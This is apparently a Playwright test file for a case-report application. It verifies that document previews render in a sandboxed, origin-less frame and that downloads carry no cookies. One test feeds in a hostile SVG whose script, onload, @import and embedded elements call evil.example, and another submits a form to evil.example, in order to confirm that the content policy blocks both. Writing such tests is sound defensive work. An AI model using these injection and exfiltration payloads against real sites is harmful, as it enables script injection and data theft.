import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { sql } from "kysely";
import type { BrowserContext, Frame, Page } from "playwright-core";
import { strToU8, zipSync } from "fflate";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { Person } from "../../../testing/installation.ts";
import { openServedInstallation, violationsOn, type ServedInstallation } from "../../../testing/served.ts";
import { plantedPdf } from "../../../testing/planted-pdf.ts";

/** S48, S51 in a browser: files are painted where nobody is signed in, and taken from there. */
let vigie: ServedInstallation;
let analyst: Person;
let reportId: string;
let context: BrowserContext;
let page: Page;
/** Every address that any page asked for. */
const asked: string[] = [];
const cookiesThere: (string | undefined)[] = [];
const ours = (address: string) => address.startsWith(vigie.base) || address.startsWith(vigie.house.filesOrigin) || address.startsWith("blob:") || address.startsWith("data:");

beforeAll(async () => {
  vigie = await openServedInstallation();
  const office = await vigie.house.compartment();
  analyst = await vigie.house.person({ roles: { [office]: ["analyst"] } });
  const { body: situation } = await analyst.send("POST", "/api/situations", { compartmentId: office, content: { label: "unclassified", title: "River districts", countries: ["XKS"], areas: [], period: "2026", populationsAtRisk: [], possiblePerpetrators: [], crimesConsidered: [], concernLevel: null, concernHistory: [], reviewOn: null } });
  const picture = await photograph();
  const attachments = [];
  for (const [name, content] of [["letter.pdf", await plantedPdf()], ["market.jpg", picture], ["note.txt", strToU8("Heard <b>at</b> the market")], ["minutes.docx", zipSync({ "word/document.xml": strToU8("<a/>") })]] as const) attachments.push((await analyst.upload(`/api/files?compartment=${office}&label=confidential&name=${name}`, new Uint8Array(content))).body);
  const made = await analyst.send("POST", "/api/reports", { compartmentId: office, content: { label: "confidential", situationId: situation.id, title: "Heard at the well", receivedAt: "2026-03-01T10:00:00Z", occurred: null, place: null, sourceId: null, sourceKind: null, language: "en", text: "They came at dawn", reliability: null, credibility: null, attachments } });
  reportId = made.body.id;
  context = await vigie.visit(analyst);
  context.on("request", (request) => void asked.push(request.url()));
  context.on("request", async (request) => void (request.url().startsWith(vigie.house.filesOrigin) && cookiesThere.push((await request.allHeaders())["cookie"])));
  page = await openReport(context);
}, 120_000);
afterAll(async () => vigie.close());

async function photograph(): Promise<Buffer> {
  const drawn = await vigie.browser.newPage({ viewport: { width: 300, height: 200 } });
  await drawn.setContent('<body style="background: linear-gradient(90deg, #a00, #00a)">');
  const picture = await drawn.screenshot({ type: "jpeg" });
  await drawn.close();
  return picture;
}

async function openReport(visit: BrowserContext): Promise<Page> {
  const opened = await visit.newPage();
  await opened.goto(`${vigie.base}/reports/${reportId}`);
  await opened.locator("li", { hasText: "letter.pdf" }).waitFor();
  return opened;
}

const line = (name: string, on = page) => on.locator("li", { hasText: name });
async function painted(name: string, on = page): Promise<Frame> {
  const frame = await (await line(name, on).locator("iframe").elementHandle())?.contentFrame();
  await frame!.waitForSelector("canvas");
  return frame!;
}
/** How many different colours there are among some points of what was painted. */
const colours = (frame: Frame) => frame.evaluate(() => {
  const canvas = document.querySelector("canvas")!;
  const { data } = canvas.getContext("2d")!.getImageData(0, 0, canvas.width, canvas.height);
  return new Set(Array.from({ length: data.length / 4 }, (_, at) => data.slice(at * 4, at * 4 + 3).join())).size;
});
const keep = process.env["VIGIE_SCREENSHOTS"];
async function screenshot(on: Page, name: string): Promise<void> {
  if (keep === undefined) return;
  mkdirSync(keep, { recursive: true });
  writeFileSync(join(keep, `${name}.png`), await on.screenshot({ fullPage: true }));
}

describe("what is in a file", () => {
  test("a hostile document is painted page by page in a frame of no origin, runs nothing and asks nobody", async () => {
    await line("letter.pdf").getByRole("button", { name: "Show letter.pdf" }).click();
    const frame = await painted("letter.pdf");
    expect(await frame.evaluate(() => [self.origin, document.querySelector("canvas")!.getAttribute("aria-label")])).toEqual(["null", "Page 1 of 2 of letter.pdf"]);
    expect(new URL(frame.url()).origin).toBe(vigie.house.filesOrigin);
    expect(await colours(frame)).toBeGreaterThan(3);
    await screenshot(page, "desk-pdf");
    await line("letter.pdf").getByRole("button", { name: "Next page" }).click();
    await line("letter.pdf").getByText("Page 2 of 2").waitFor();
    const second = await painted("letter.pdf");
    expect(await second.evaluate(() => document.querySelector("canvas")!.getAttribute("aria-label"))).toBe("Page 2 of 2 of letter.pdf");
    expect(await colours(second)).toBeGreaterThan(3);
    expect(await line("letter.pdf").getByText("This is the last page.").count()).toBe(1);
    expect(asked.filter((address) => !ours(address))).toEqual([]);
  });

  test("the frame can ask for nothing, keep nothing and reach nothing around it", async () => {
    const frame = await painted("letter.pdf");
    const tries = await frame.evaluate(async (base) => {
      const outcome = async (work: () => unknown) => Promise.resolve().then(work).then(() => "done", (error: Error) => error.name);
      return [await outcome(() => fetch(`${base}/api/session`, { credentials: "include" })), await outcome(() => parent.document.title), await outcome(() => localStorage.length), await outcome(() => document.cookie), await outcome(() => (document.body.innerHTML = "<img src=x>")), await outcome(() => globalThis.open(base))];
    }, vigie.base);
    expect(tries.slice(0, 5)).toEqual(["TypeError", "SecurityError", "SecurityError", "SecurityError", "TypeError"]);
    expect(context.pages()).toHaveLength(1);
  });

  test("a picture is painted, and a text stands as letters", async () => {
    await line("market.jpg").getByRole("button", { name: "Show market.jpg" }).click();
    expect(await colours(await painted("market.jpg"))).toBeGreaterThan(50);
    await line("note.txt").getByRole("button", { name: "Show note.txt" }).click();
    expect(await line("note.txt").locator("pre").textContent()).toBe("Heard <b>at</b> the market");
    expect(await page.locator("main img, main object, main embed").count()).toBe(0);
  });

  test("of another kind it says kindly that nothing is shown, and offers the original", async () => {
    await line("minutes.docx").getByRole("button", { name: "Show minutes.docx" }).click();
    await line("minutes.docx").getByText("Files of this kind are not shown here.").waitFor();
    expect(await line("minutes.docx").getByRole("button", { name: "Take the original of minutes.docx" }).count()).toBe(1);
  });

  test("a drawing that came hostile all the same runs nothing and fetches nothing where it is painted", async () => {
    const evil = "http://evil.example";
    const hostile = `<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="parent.postMessage('ran','*');fetch('${evil}/a')"><script>document.title='ran';new Image().src='${evil}/b'</script><style>@import url(${evil}/c.css);rect{fill:url(${evil}/d.svg#x)}</style><image href="${evil}/e.png" width="9" height="9"/><use href="${evil}/f.svg#x"/><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${evil}/g"></iframe></foreignObject><rect width="20" height="20" fill="#a00"/></svg>`;
    const other = await vigie.visit(analyst);
    const requests: string[] = [];
    other.on("request", (request) => void requests.push(request.url()));
    await other.route("**/preview?page=1", (route) => route.fulfill({ json: { shows: "page", type: "image/svg+xml", page: 1, pages: 1, drawing: Buffer.from(hostile).toString("base64"), canvas: `${vigie.house.filesOrigin}/canvas` } }));
    const there = await openReport(other);
    await line("letter.pdf", there).getByRole("button", { name: "Show letter.pdf" }).click();
    const frame = await painted("letter.pdf", there);
    expect(await frame.evaluate(() => document.title)).toBe("Vigie");
    expect(requests.filter((address) => address.startsWith(evil))).toEqual([]);
    await other.close();
  });

  test("is entered, once for each page that was seen", async () => {
    const { rows } = await sql<{ count: number }>`select count(*)::int as count from ledger.entry where event = 'attachment.preview-shown' and actor_id = ${analyst.id}`.execute(vigie.house.database.worker.db);
    expect(Number(rows[0]!.count)).toBeGreaterThanOrEqual(4);
  });

  test("nobody may stand in the way: the page has no violations, at a desk in English and on a telephone in Arabic and French", async () => {
    expect(await violationsOn(page)).toEqual([]);
    await screenshot(page, "desk-all");
    for (const [language, words] of [["ar", "عرض letter.pdf"], ["fr", "Montrer letter.pdf"]] as const) {
      const visit = await vigie.visit(analyst, { language, device: "phone" });
      const telephone = await openReport(visit);
      await line("letter.pdf", telephone).getByRole("button", { name: words }).click();
      await painted("letter.pdf", telephone);
      expect(await telephone.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(320);
      expect(await violationsOn(telephone)).toEqual([]);
      await screenshot(telephone, `phone-${language}`);
      await visit.close();
    }
  });
});

describe("S48: the original", () => {
  test("comes as a download from the other origin, in a form without a cookie and with nothing in its address; the page stays", async () => {
    const [download] = await Promise.all([page.waitForEvent("download"), line("note.txt").getByRole("button", { name: "Take the original of note.txt" }).click()]);
    expect(download.suggestedFilename()).toMatch(/^file-[0-9a-f]{8}-confidential\.txt$/);
    expect(download.url()).toBe(`${vigie.house.filesOrigin}/taken`);
    expect(page.url()).toBe(`${vigie.base}/reports/${reportId}`);
    expect(cookiesThere.length).toBeGreaterThan(1);
    expect(new Set(cookiesThere)).toEqual(new Set([undefined]));
  });

  test("whoever was away for a while is asked to sign in again beside the page before an original leaves", async () => {
    vigie.house.clock.now = new Date(vigie.house.clock.now.getTime() + 6 * 60_000);
    await line("note.txt").getByRole("button", { name: "Take the original of note.txt" }).click();
    await line("note.txt").getByRole("alert").waitFor();
    expect(await line("note.txt").getByRole("link").first().getAttribute("href")).toContain("/sign-in?to=");
  });

  test("a form of the page may go there and to itself, and nowhere else", async () => {
    const policy = (await page.reload())!.headers()["content-security-policy"]!;
    expect(policy).toContain(`form-action 'self' ${vigie.house.filesOrigin};`);
    expect(policy).toContain(`frame-src ${vigie.house.filesOrigin};`);
    const blocked = await page.evaluate(() => {
      const refused = new Promise<string>((resolve) => document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => resolve(effectiveDirective), { once: true }));
      const form = document.createElement("form");
      form.method = "post";
      form.action = "http://evil.example/taken";
      document.body.append(form);
      form.submit();
      return refused;
    });
    expect(blocked).toBe("form-action");
    expect(asked.filter((address) => !ours(address))).toEqual([]);
  });
});
